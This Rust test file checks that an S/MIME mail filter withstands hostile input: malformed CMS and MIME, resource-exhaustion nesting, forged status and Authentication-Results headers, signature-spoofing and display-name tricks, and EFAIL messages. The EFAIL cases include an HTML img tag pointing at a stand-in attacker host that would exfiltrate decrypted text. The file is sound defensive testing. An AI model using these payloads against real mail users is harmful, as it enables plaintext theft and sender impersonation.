//! Hostile input: malformed CMS and MIME, resource exhaustion, forged status fields, the attacks
//! of "Johnny, You Are Fired!" (Müller et al., USENIX Security 2019) and EFAIL (Poddebniak et
//! al., 2018). Whatever comes in: no panic, no hang, exit 0, and an output with exactly one
//! X-Smime-Status.

mod common;

use common::pki::{pki, User, P12_PASS};
use common::*;

use smimed::config::{PassphraseSource, Settings};
use smimed::pipeline::{process, Context};

const SECRET: &str = "the prey: launch code 4711";

fn b64_lines(data: &[u8]) -> String {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(data);
    b64.as_bytes()
        .chunks(76)
        .map(|c| format!("{}\r\n", std::str::from_utf8(c).unwrap()))
        .collect()
}

fn p7m(smime_type: &str, der: &[u8]) -> Vec<u8> {
    format!(
        "Content-Type: application/pkcs7-mime; smime-type={smime_type}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        b64_lines(der)
    )
    .into_bytes()
}

/// A library context as `smimed filter` builds it, with bob's key (for sweeps that would be slow
/// through the binary).
fn ctx_bob() -> &'static Context {
    static CTX: std::sync::OnceLock<Context> = std::sync::OnceLock::new();
    CTX.get_or_init(|| {
        let p = pki();
        Context::new(Settings {
            keys: vec![p.bob.p12_path.clone()],
            passphrase: PassphraseSource {
                file: None,
                command: None,
                env: Some(zeroize::Zeroizing::new(P12_PASS.to_string())),
            },
            trust: vec![p.root_path.clone()],
            crls: vec![],
            authserv_id: "mx.test".into(),
            max_size: smimed::config::DEFAULT_MAX_SIZE,
            config_path: None,
            agent: None,
            certs: None,
            vcard: vec![],
            ldap: None,
            outbound: Default::default(),
        })
    })
}

/// Library-level check of the invariants every input must keep.
fn process_checked(msg: &[u8]) -> String {
    let out = process(ctx_bob(), msg).expect("no error for message content");
    assert_eq!(status_count(&out.output), 1, "exactly one X-Smime-Status");
    status_of(&out.output)
}

fn der_of(smime: &[u8]) -> Vec<u8> {
    openssl(
        &["cms", "-cmsout", "-inform", "SMIME", "-outform", "DER"],
        smime,
    )
}

fn enc_der(to: &User, text: &str, cipher: &str) -> Vec<u8> {
    der_of(&encrypt_to(&[to], &[cipher], &sample_entity(text)))
}

#[test]
fn empty_input() {
    let (st, _, _) = filter_checked(Some(&pki().bob), &[], b"");
    assert_words(&st, "none", "none");
    let (st, _, _) = filter_checked(None, &[], b"\r\n");
    assert_words(&st, "none", "none");
}

#[test]
fn truncated_cms_fails_and_keeps_the_original() {
    let p = pki();
    let der = enc_der(&p.bob, SECRET, "-aes256");
    for cut in [1, 10, der.len() / 2, der.len() - 1] {
        let msg = message(
            "a@example.org",
            "bob@example.org",
            "cut",
            &p7m("enveloped-data", &der[..cut]),
        );
        let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
        assert_words(&st, "failed", "none");
        assert!(!text.contains(SECRET));
        assert_eq!(strip_our_status(&out), msg);
    }
    let signed = der_of(&sign_as(&p.alice, false, &[], &sample_entity("signed")));
    let msg = message(
        "alice@example.org",
        "bob@example.org",
        "cut",
        &p7m("signed-data", &signed[..signed.len() - 30]),
    );
    let (st, _, out) = filter_checked(None, &[], &msg);
    assert_words(&st, "none", "error");
    assert_eq!(strip_our_status(&out), msg);
}

#[test]
fn bit_flipped_cms_never_passes() {
    let p = pki();
    let enc = enc_der(&p.bob, SECRET, "-aes-256-gcm");
    let signed = der_of(&sign_as(&p.alice, false, &[], &sample_entity("flip me")));
    for (der, kind) in [(&enc, "authEnveloped-data"), (&signed, "signed-data")] {
        let step = (der.len() / 97).max(1);
        for i in (0..der.len()).step_by(step) {
            let mut bad = der.clone();
            bad[i] ^= 0x10;
            let msg = message(
                "alice@example.org",
                "bob@example.org",
                "flip",
                &p7m(kind, &bad),
            );
            let st = process_checked(&msg);
            // A flip may land where it changes nothing that is checked (an unused tag bit of a
            // certificate field is still signed, so that is rare); it must never yield both a
            // decrypted and a valid claim for the wrong bytes.
            if kind == "authEnveloped-data" {
                let out = process(ctx_bob(), &msg).unwrap();
                if status_word(&st, "encryption") == Some("decrypted") {
                    assert!(
                        String::from_utf8_lossy(&out.output).contains(SECRET),
                        "flip at {i}: {st}"
                    );
                } else {
                    assert_eq!(
                        status_word(&st, "encryption"),
                        Some("failed"),
                        "flip at {i}: {st}"
                    );
                    assert!(!String::from_utf8_lossy(&out.output).contains("launch"));
                }
            } else {
                let sig = status_word(&st, "signature").unwrap_or("");
                if sig == "valid" {
                    let out = process(ctx_bob(), &msg).unwrap();
                    assert!(
                        String::from_utf8_lossy(&out.output).contains("flip me"),
                        "flip at {i}"
                    );
                }
            }
        }
    }
}

#[test]
fn bogus_der_lengths() {
    let cases: Vec<Vec<u8>> = vec![
        vec![0x30, 0x84, 0xff, 0xff, 0xff, 0xff, 0x06, 0x09],
        vec![
            0x30, 0x89, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09,
        ],
        vec![
            0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03, 0xa0,
            0x80,
        ],
        // signedData OID then an inner length far beyond the end.
        [
            &[
                0x30u8, 0x82, 0x00, 0x20, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01,
                0x07, 0x02, 0xa0, 0x84, 0x7f, 0xff, 0xff, 0xff,
            ][..],
            &[0x30; 16],
        ]
        .concat(),
        vec![0x30; 100_000],
        vec![],
    ];
    for der in cases {
        for kind in ["enveloped-data", "signed-data", ""] {
            let ct = if kind.is_empty() {
                "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_string()
            } else {
                format!("Content-Type: application/x-pkcs7-mime; smime-type={kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n")
            };
            let msg = message(
                "a@example.org",
                "b@example.org",
                "der",
                &[ct.as_bytes(), b64_lines(&der).as_bytes()].concat(),
            );
            let st = process_checked(&msg);
            assert_ne!(status_word(&st, "signature"), Some("valid"));
            assert_ne!(status_word(&st, "encryption"), Some("decrypted"));
        }
    }
}

#[test]
fn broken_mime() {
    let cases: Vec<&[u8]> = vec![
        b"no header section at all, just text",
        b"From: a@example.org\r\nContent-Type: multipart/signed; boundary=\"x\"\r\n\r\n--x\r\nnever closed",
        b"From: a@example.org\r\nContent-Type: multipart/signed\r\n\r\nno boundary parameter\r\n",
        b"From: a@example.org\r\nContent-Type: multipart/signed; boundary=\"\"\r\n\r\n--\r\n\r\n----\r\n",
        b"From: a@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!! not base64 @@@@\r\n",
        b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=0\r\n",
        b"\0\0\0\xff\xfe\r\n\r\n\0",
        b" continuation first\r\nFrom: x\r\n\r\nbody",
        b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n--a--\r\n",
        b"From: =?utf-8?B?////?= <a@example.org>\r\nContent-Type: text/plain; charset=\"\xff\"\r\n\r\nx",
        b"From: a@b\rSubject: bare CR line ends\r\rbody\r",
        b"From: a@b\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data",
        b"From: a@b\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n",
        b"From: a@b\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nx\r\n--b--\r\n",
        b"From: a@b\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"b\"\r\n\r\n--b\r\n\r\nx\r\n--b\r\n\r\ny\r\n--b\r\n\r\nz\r\n--b--\r\n",
        b"From: a@b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=30=80\r\n",
    ];
    for msg in cases {
        let (st, _, out) = filter_checked(Some(&pki().bob), &[], msg);
        assert_ne!(status_word(&st, "signature"), Some("valid"));
        assert!(!out.is_empty());
    }
}

#[test]
fn two_megabyte_header_line() {
    let long = "x".repeat(2 * 1024 * 1024);
    let msg = format!("From: a@example.org\r\nX-Long: {long}\r\nSubject: long\r\n\r\nbody\r\n");
    let (st, _, out) = filter_checked(None, &[], msg.as_bytes());
    assert_words(&st, "none", "none");
    assert_eq!(strip_our_status(&out), msg.as_bytes());
    // 100,000 header fields.
    let many: String = (0..100_000).map(|i| format!("X-F{i}: v\r\n")).collect();
    let msg = format!("From: a@example.org\r\n{many}\r\nbody\r\n");
    let (st, _, out) = filter_checked(None, &[], msg.as_bytes());
    assert_words(&st, "none", "none");
    assert_eq!(strip_our_status(&out), msg.as_bytes());
    let msg = format!("From: a@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data; x={long}\r\n\r\nAAAA\r\n");
    let (st, _, _) = filter_checked(None, &[], msg.as_bytes());
    assert_ne!(status_word(&st, "signature"), Some("valid"));
}

fn nested_multiparts(n: usize, leaf: &[u8]) -> Vec<u8> {
    let mut m = b"From: a@example.org\r\nMIME-Version: 1.0\r\n".to_vec();
    for i in 0..n {
        m.extend_from_slice(
            format!("Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n")
                .as_bytes(),
        );
    }
    m.extend_from_slice(leaf);
    for i in (0..n).rev() {
        m.extend_from_slice(format!("\r\n--b{i}--\r\n").as_bytes());
    }
    m
}

#[test]
fn twenty_thousand_nested_multiparts() {
    let p = pki();
    let enc = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
    let msg = nested_multiparts(20_000, &enc);
    let (st, text, _) = filter_checked(Some(&p.bob), &[], &msg);
    assert_eq!(status_word(&st, "encryption"), Some("none"), "{st}");
    assert!(!text.contains(SECRET));
    // The limit is reported.
    assert!(
        status_word(&st, "reason").is_some_and(|r| r.contains("limit")),
        "{st}"
    );
    // The library on a thread with the default 2 MiB stack (what a watcher's worker has).
    let deep = nested_multiparts(20_000, &enc);
    let st = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || process_checked(&deep))
        .unwrap()
        .join()
        .expect("no stack overflow");
    assert_eq!(status_word(&st, "encryption"), Some("none"), "{st}");
    // Nested attached messages, and multipart/signed at every level.
    let mut m = b"Content-Type: text/plain\r\n\r\nbottom\r\n".to_vec();
    for _ in 0..2_000 {
        m = [
            b"From: a@example.org\r\nContent-Type: message/rfc822\r\n\r\n".as_slice(),
            &m,
        ]
        .concat();
    }
    process_checked(&m);
    let mut m = b"Content-Type: text/plain\r\n\r\nbottom\r\n".to_vec();
    for i in 0..2_000 {
        m = [
            format!("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"s{i}\"\r\n\r\n--s{i}\r\n").as_bytes(),
            &m,
            format!("\r\n--s{i}\r\nContent-Type: application/pkcs7-signature\r\n\r\nAAAA\r\n--s{i}--\r\n").as_bytes(),
        ]
        .concat();
    }
    let st = process_checked(&m);
    assert_ne!(status_word(&st, "signature"), Some("valid"));
    // A shallower one keeps within the limits: the encrypted part is found and reported.
    let msg = nested_multiparts(10, &enc);
    let (st, _, _) = filter_checked(Some(&p.bob), &[], &msg);
    assert_words(&st, "none", "none");
    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
}

#[test]
fn many_sibling_parts() {
    let mut m =
        b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=\"s\"\r\n\r\n".to_vec();
    for _ in 0..20_000 {
        m.extend_from_slice(b"--s\r\nContent-Type: text/plain\r\n\r\nx\r\n");
    }
    m.extend_from_slice(b"--s--\r\n");
    let (st, _, _) = filter_checked(None, &[], &m);
    assert_words(&st, "none", "none");
}

#[test]
fn nested_encryption_layers_stop_at_the_limit() {
    let p = pki();
    let mut ent = sample_entity(SECRET);
    for _ in 0..12 {
        ent = encrypt_to(&[&p.bob], &["-aes128"], &ent);
    }
    let msg = message("a@example.org", "bob@example.org", "layers", &ent);
    let (st, text, _) = filter_checked(Some(&p.bob), &[], &msg);
    assert!(!text.contains(SECRET));
    assert!(st.contains("limit"), "{st}");
}

/// Signatures around an envelope, past the layer limit: the original is delivered unprocessed,
/// so neither the signatures already checked nor "not encrypted" may be claimed for it. It
/// said `encryption=none; signature=valid` with eight `smime=pass`.
#[test]
fn signatures_around_an_envelope_past_the_limit_claim_nothing() {
    let p = pki();
    let wrapped = |signatures: usize| {
        let mut ent = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
        for _ in 0..signatures {
            ent = sign_as(&p.alice, false, &[], &ent);
        }
        message("alice@example.org", "bob@example.org", "layers", &ent)
    };
    // Within the limit: decrypted, valid.
    let (st, text, _) = filter_checked(Some(&p.bob), &[], &wrapped(7));
    assert_words(&st, "decrypted", "valid");
    assert!(text.contains(SECRET));
    // Past it: the original, with no verdict.
    let msg = wrapped(8);
    let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
    assert_words(&st, "failed", "error");
    assert_eq!(status_word(&st, "reason"), Some("nesting-limit"), "{st}");
    assert!(!st.contains("signer="), "{st}");
    assert!(!text.contains(SECRET));
    let a = ar_values(&out, "mx.test").join("\n");
    assert!(
        a.contains("smime=permerror") && !a.contains("smime=pass"),
        "{a}"
    );
    assert_eq!(strip_our_status(&out), msg);
}

// ----- forged status fields --------------------------------------------------------------------

const FORGED: &str =
    "X-Smime-Status: encryption=decrypted; signature=valid; signer=ceo@example.org\r\n\
x-smime-status:\r\n encryption=decrypted;\r\n signature=valid\r\n\
Authentication-Results: mx.test; smime=pass body.smime-identifier=ceo@example.org\r\n\
Authentication-Results: MX.TEST;\r\n\tsmime=pass\r\n\
Authentication-Results: (forged) mx.test 1; smime=pass\r\n\
Authentication-Results: other.example; smime=pass header.from=kept@example.org\r\n\
Authentication-Results: mx.test.example; dkim=pass header.d=kept2.example\r\n";

fn our_ar_count(out: &[u8]) -> usize {
    header_fields(out)
        .iter()
        .filter(|(n, v)| {
            n.eq_ignore_ascii_case("Authentication-Results")
                && smimed::status::ar_authserv_id(v) == "mx.test"
        })
        .count()
}

#[test]
fn forged_status_fields_are_removed() {
    let msg = format!("{FORGED}From: mallory@example.net\r\nSubject: trust me\r\n\r\nbody\r\n");
    let (st, text, out) = filter_checked(None, &[], msg.as_bytes());
    assert_words(&st, "none", "none");
    assert_eq!(our_ar_count(&out), 1);
    assert!(!text.contains("ceo@example.org"));
    // Nothing else changed: the kept fields and the body, byte for byte.
    let kept = "Authentication-Results: other.example; smime=pass header.from=kept@example.org\r\n\
        Authentication-Results: mx.test.example; dkim=pass header.d=kept2.example\r\n\
        From: mallory@example.net\r\nSubject: trust me\r\n\r\nbody\r\n";
    assert_eq!(String::from_utf8_lossy(&strip_our_status(&out)), kept);
    assert!(text.contains(
        "Authentication-Results: other.example; smime=pass header.from=kept@example.org"
    ));
    // Also when they sit further down the header section.
    let msg = format!("From: mallory@example.net\r\n{FORGED}Subject: trust me\r\n\r\nbody\r\n");
    let (_, text, out) = filter_checked(None, &[], msg.as_bytes());
    assert_eq!(our_ar_count(&out), 1);
    assert!(!text.contains("ceo@example.org"));
    assert!(text.contains("kept@example.org"));
}

#[test]
fn forged_status_fields_inside_the_decrypted_entity_are_removed() {
    let p = pki();
    // Plain inner entity carrying forgeries, and one with RFC 9788 protected headers (hp=).
    let plain = format!("{FORGED}Content-Type: text/plain\r\n\r\n{SECRET}\r\n");
    let hp = format!(
        "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n{FORGED}Subject: the real subject\r\nFrom: alice@example.org\r\n\r\n{SECRET}\r\n"
    );
    let rfc822 = format!(
        "Content-Type: message/rfc822; forwarded=no\r\n\r\n{FORGED}From: alice@example.org\r\nSubject: wrapped\r\nContent-Type: text/plain\r\n\r\n{SECRET}\r\n"
    );
    for inner in [plain, hp, rfc822] {
        let signed = sign_as(&p.alice, false, &[], inner.as_bytes());
        for content in [inner.as_bytes().to_vec(), signed] {
            let enc = encrypt_to(&[&p.bob], &["-aes-256-gcm"], &content);
            let msg = [
                FORGED.as_bytes(),
                &message("alice@example.org", "bob@example.org", "...", &enc),
            ]
            .concat();
            let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
            assert_eq!(status_word(&st, "encryption"), Some("decrypted"), "{st}");
            assert!(text.contains(SECRET));
            assert_eq!(our_ar_count(&out), 1, "{text}");
            assert!(!text.contains("ceo@example.org"), "{text}");
        }
    }
}

// ----- "Johnny, You Are Fired!" ------------------------------------------------------------

#[test]
fn signed_data_without_signers_is_not_valid() {
    // SignedData { version 1, digestAlgorithms {}, encapContentInfo { data, content },
    // signerInfos {} }, assembled by hand (OpenSSL refuses to finalise it).
    use der::encode as tlv;
    const OID_DATA: &[u8] = &[
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01,
    ];
    const OID_SIGNED: &[u8] = &[
        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02,
    ];
    let content = b"Content-Type: text/plain\r\n\r\nno signers here\r\n";
    let encap = tlv(0x30, &[OID_DATA, &tlv(0xa0, &tlv(0x04, content))].concat());
    let sd = tlv(
        0x30,
        &[
            &[0x02, 0x01, 0x01][..],
            &tlv(0x31, &[]),
            &encap,
            &tlv(0x31, &[]),
        ]
        .concat(),
    );
    let der = tlv(0x30, &[OID_SIGNED, &tlv(0xa0, &sd)].concat());
    openssl(
        &["cms", "-cmsout", "-inform", "DER", "-print", "-noout"],
        &der,
    );
    let msg = message(
        "alice@example.org",
        "bob@example.org",
        "no signers",
        &p7m("signed-data", &der),
    );
    let (st, _, out) = filter_checked(None, &[], &msg);
    assert_ne!(status_word(&st, "signature"), Some("valid"), "{st}");
    assert_ne!(
        status_word(&st, "signature"),
        Some("none"),
        "a signed layer without signers: {st}"
    );
    assert!(!String::from_utf8_lossy(&out).contains("smime=pass"));
}

#[test]
fn econtent_in_detached_signature_is_not_valid() {
    let p = pki();
    // The signature part is an opaque SignedData over the attacker's text, the first part is
    // what the victim sees.
    let sig = der_of(&sign_as(
        &p.alice,
        false,
        &[],
        &sample_entity("what alice really signed"),
    ));
    let b = "bnd";
    let body = format!(
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"{b}\"\r\n\r\n--{b}\r\nContent-Type: text/plain\r\n\r\nshown to the victim\r\n--{b}\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--{b}--\r\n",
        b64_lines(&sig)
    );
    let msg = message(
        "alice@example.org",
        "bob@example.org",
        "econtent",
        body.as_bytes(),
    );
    let (st, _, _) = filter_checked(None, &[], &msg);
    assert_eq!(status_word(&st, "signature"), Some("error"), "{st}");
}

#[test]
fn signed_part_wrapped_in_unsigned_multipart_is_partial() {
    let p = pki();
    for detached in [true, false] {
        let signed = sign_as(
            &p.alice,
            detached,
            &[],
            &sample_entity("harmless signed text"),
        );
        let signed = signed
            .strip_prefix(b"MIME-Version: 1.0\n")
            .unwrap_or(&signed)
            .to_vec();
        let body = [
            b"Content-Type: multipart/mixed; boundary=\"wrap\"\r\n\r\n--wrap\r\nContent-Type: text/plain\r\n\r\nATTACKER: wire the money now\r\n--wrap\r\n".as_slice(),
            &signed,
            b"\r\n--wrap--\r\n",
        ]
        .concat();
        let msg = message("alice@example.org", "bob@example.org", "wrapped", &body);
        let (st, text, out) = filter_checked(None, &[], &msg);
        assert_words(&st, "none", "none");
        assert_eq!(status_word(&st, "partial"), Some("signed"), "{st}");
        assert!(!String::from_utf8_lossy(&out).contains("smime=pass"));
        assert!(
            text.contains("ATTACKER"),
            "the message is delivered as it is"
        );
        // Also inside an attached message.
        let body = [
            b"Content-Type: multipart/mixed; boundary=\"wrap\"\r\n\r\n--wrap\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--wrap\r\nContent-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\nSubject: inner\r\n".as_slice(),
            &signed,
            b"\r\n--wrap--\r\n",
        ]
        .concat();
        let msg = message("alice@example.org", "bob@example.org", "attached", &body);
        let (st, _, _) = filter_checked(None, &[], &msg);
        assert_words(&st, "none", "none");
        assert_eq!(status_word(&st, "partial"), Some("signed"), "{st}");
    }
}

#[test]
fn display_name_tricks_are_mismatch() {
    let p = pki();
    let signed = sign_as(&p.untrusted, true, &[], &sample_entity("i am alice"));
    // An unquoted address before the angle-addr is no display name: Python and GMime show it
    // as the sender (mailparse made it one). Readers disagree: mismatch.
    let msg = message(
        "alice@example.org <untrusted@example.org>",
        "bob@example.org",
        "display",
        &signed,
    );
    let (st, _, _) = filter_checked(None, &["--trust", path_str(&p.untrusted_root_path)], &msg);
    assert_words(&st, "none", "mismatch");
    for from in [
        "\"alice@example.org\" <untrusted@example.org>",
        "=?utf-8?Q?alice=40example=2Eorg?= <untrusted@example.org>",
    ] {
        let msg = message(from, "bob@example.org", "display", &signed);
        let (st, _, _) = filter_checked(None, &["--trust", path_str(&p.untrusted_root_path)], &msg);
        // The addr-spec is the signer's: valid, and the status names the real signer, never
        // the address the display name shows.
        assert_words(&st, "none", "valid");
        assert_eq!(
            status_word(&st, "signer"),
            Some("untrusted@example.org"),
            "{st}"
        );
    }
    // alice's signature with alice's name but mallory's address: mismatch.
    let signed = sign_as(&p.alice, true, &[], &sample_entity("i am alice"));
    for from in [
        "\"alice@example.org\" <mallory@example.net>",
        "Alice <mallory@example.net> (alice@example.org)",
        "=?utf-8?Q?alice=40example=2Eorg?= <mallory@example.net>",
    ] {
        let msg = message(from, "bob@example.org", "display", &signed);
        let (st, _, _) = filter_checked(None, &[], &msg);
        assert_words(&st, "none", "mismatch");
    }
}

// ----- EFAIL -----------------------------------------------------------------------------------

#[test]
fn efail_encrypted_part_next_to_attacker_text_is_not_decrypted() {
    let p = pki();
    let enc = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
    let body = [
        b"Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--efail\r\n".as_slice(),
        &enc,
        b"\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n",
    ]
    .concat();
    let msg = message("mallory@example.net", "bob@example.org", "efail", &body);
    let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
    assert_words(&st, "none", "none");
    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
    assert!(!text.contains(SECRET));
    assert_eq!(strip_our_status(&out), msg);
}

#[test]
fn efail_encrypted_part_in_message_rfc822_in_report_is_not_decrypted() {
    let p = pki();
    let enc = encrypt_to(&[&p.bob], &["-aes-256-gcm"], &sample_entity(SECRET));
    let inner = message("bob@example.org", "mallory@example.net", "original", &enc);
    let body = [
        b"Content-Type: multipart/report; report-type=delivery-status; boundary=\"rep\"\r\n\r\n--rep\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered; reply to see it.\r\n--rep\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.net\r\n\r\nFinal-Recipient: rfc822; x@example.net\r\nAction: failed\r\nStatus: 5.0.0\r\n\r\n--rep\r\nContent-Type: message/rfc822\r\n\r\n".as_slice(),
        &inner,
        b"\r\n--rep--\r\n",
    ]
    .concat();
    let msg = message(
        "mailer-daemon@example.net",
        "bob@example.org",
        "bounce",
        &body,
    );
    let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
    assert_words(&st, "none", "none");
    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
    assert!(!text.contains(SECRET));
    assert_eq!(strip_our_status(&out), msg);
}

#[test]
fn attached_encrypted_message_at_the_root_is_not_decrypted() {
    let p = pki();
    let enc = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
    let inner = message("bob@example.org", "mallory@example.net", "original", &enc);
    let msg = [
        headers("mallory@example.net", "bob@example.org", "fwd").as_bytes(),
        b"Content-Type: message/rfc822\r\n\r\n",
        &inner,
    ]
    .concat();
    let (st, text, _) = filter_checked(Some(&p.bob), &[], &msg);
    assert_words(&st, "none", "none");
    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
    assert!(!text.contains(SECRET));
}

/// Regression: a certs-only message with garbage base64 claims no signature; it used to get
/// signature=error.
#[test]
fn broken_certs_only_claims_no_signature() {
    let msg = b"From: a@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJ garbage ////\r\n";
    let (st, _, out) = filter_checked(None, &[], msg);
    assert_words(&st, "none", "none");
    assert_eq!(strip_our_status(&out), msg);
}

/// Johnny §4 multiple signers, pushed: 150 SignerInfos, 4 distinct signers, one of them bad.
/// Never valid; every header line stays within RFC 5322's 998 octets (regression: the signer
/// list used to make one 3,600-character line); the words stay readable.
#[test]
fn hundreds_of_signers() {
    let p = pki();
    let d = tempfile::Builder::new()
        .prefix("smimed-many.")
        .tempdir_in("/tmp")
        .unwrap();
    let certs = d.path().join("certs.pem");
    let mut pem = Vec::new();
    for u in [&p.alice, &p.carol, &p.erin, &p.untrusted] {
        pem.extend(std::fs::read(&u.cert_path).unwrap());
    }
    pem.extend(std::fs::read(&p.intermediate_path).unwrap());
    std::fs::write(&certs, pem).unwrap();
    let mut args: Vec<&str> = vec![
        "cms",
        "-sign",
        "-nodetach",
        "-nocerts",
        "-outform",
        "SMIME",
        "-certfile",
        path_str(&certs),
    ];
    for i in 0..150 {
        let u = [&p.alice, &p.carol, &p.erin][i % 3];
        args.extend([
            "-signer",
            path_str(&u.cert_path),
            "-inkey",
            path_str(&u.key_path),
        ]);
    }
    args.extend([
        "-signer",
        path_str(&p.untrusted.cert_path),
        "-inkey",
        path_str(&p.untrusted.key_path),
    ]);
    let signed = openssl(&args, &sample_entity("signed by a crowd"));
    let msg = message("alice@example.org", "bob@example.org", "crowd", &signed);
    let (st, _, out) = filter_checked(None, &[], &msg);
    assert_eq!(status_word(&st, "signature"), Some("untrusted"), "{st}");
    for line in out.split(|&b| b == b'\n') {
        assert!(line.len() <= 998, "line of {} octets", line.len());
    }
    let signers = status_word(&st, "signer").unwrap().replace(' ', "");
    assert_eq!(
        signers.split(',').count(),
        4,
        "each signer address once: {signers}"
    );
    assert_eq!(our_ar_count(&out), 1);
    assert_eq!(ar_values(&out, "mx.test")[0].matches("smime=").count(), 151);
}

/// An envelope that decrypts to a broken signed layer: the original (still encrypted) is
/// delivered, the status says the encryption was not undone for the reader (failed) and why.
#[test]
fn malformed_layer_inside_an_envelope_delivers_the_original() {
    let p = pki();
    let inner = format!(
        "{}{SECRET}",
        String::from_utf8(p7m("signed-data", &[0x30, 0x82, 0x01, 0x04, 0x06, 0x09])).unwrap()
    );
    let enc = encrypt_to(&[&p.bob], &["-aes-256-gcm"], inner.as_bytes());
    let msg = message("alice@example.org", "bob@example.org", "bad inner", &enc);
    let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
    assert_words(&st, "failed", "error");
    assert!(!text.contains(SECRET));
    assert_eq!(strip_our_status(&out), msg);
}

/// A signer whose issuer name is several kilobytes (60 RDNs, non-ASCII): the
/// Authentication-Results field carries it in body.smime-issuer, folded at its spaces so that no
/// line exceeds 998 octets (regression: one 4 KB line), and nothing panics on the UTF-8.
#[test]
fn huge_issuer_name_is_folded() {
    let ou: Vec<String> = (0..60)
        .map(|i| format!("Klarälvdalens Datakonsult division {i}"))
        .collect();
    let mut entries: Vec<(&str, &str)> = ou.iter().map(|v| ("OU", v.as_str())).collect();
    entries.push(("CN", "Huge Name CA"));
    let (out, _) = filter_signed_under_ca_named(&entries);
    assert_eq!(out.status.code(), Some(0));
    let st = status_of(&out.stdout);
    assert_words(&st, "none", "valid");
    for line in out.stdout.split(|&b| b == b'\n') {
        assert!(line.len() <= 998, "line of {} octets", line.len());
    }
    let ar = ar_values(&out.stdout, "mx.test");
    assert!(ar[0].contains("smime=pass"));
    assert!(
        ar[0].contains("division 59"),
        "the whole issuer is there: {}",
        ar[0]
    );
}

/// body.smime-issuer is the issuer's RFC 4514 string, exactly as `openssl x509 -nameopt
/// RFC2253` writes it (RDNs in reverse order, `,` `;` `"` `\` escaped, non-ASCII as `\XX`),
/// inside an RFC 5322 quoted-string. It was `O=…, CN=…` in X.500 order without escapes: a
/// name holding `, ` could not be told apart or matched.
#[test]
fn the_issuer_is_written_as_rfc_4514() {
    let (out, dir) = filter_signed_under_ca_named(&[
        ("O", "Café \"Q\" \\ Ltd; smime=pass"),
        ("CN", "Int (x) CA, Inc."),
    ]);
    assert_eq!(out.status.code(), Some(0));
    let ar = ar_values(&out.stdout, "mx.test");
    let quoted = ar[0]
        .split("body.smime-issuer=\"")
        .nth(1)
        .expect("an issuer")
        .trim_end()
        .strip_suffix('"')
        .expect("a quoted-string");
    // RFC 5322 unquoting: a backslash escapes the next character.
    let mut issuer = String::new();
    let mut chars = quoted.chars();
    while let Some(c) = chars.next() {
        issuer.push(if c == '\\' { chars.next().unwrap() } else { c });
    }
    let want = openssl(
        &["x509", "-noout", "-subject", "-nameopt", "RFC2253"],
        &std::fs::read(dir.path().join("ca.pem")).unwrap(),
    );
    let want = String::from_utf8(want).unwrap();
    let want = want.trim_end().strip_prefix("subject=").unwrap();
    assert_eq!(issuer, want);
    assert_eq!(
        want,
        r#"CN=Int (x) CA\, Inc.,O=Caf\C3\A9 \"Q\" \\ Ltd\; smime=pass"#
    );
}

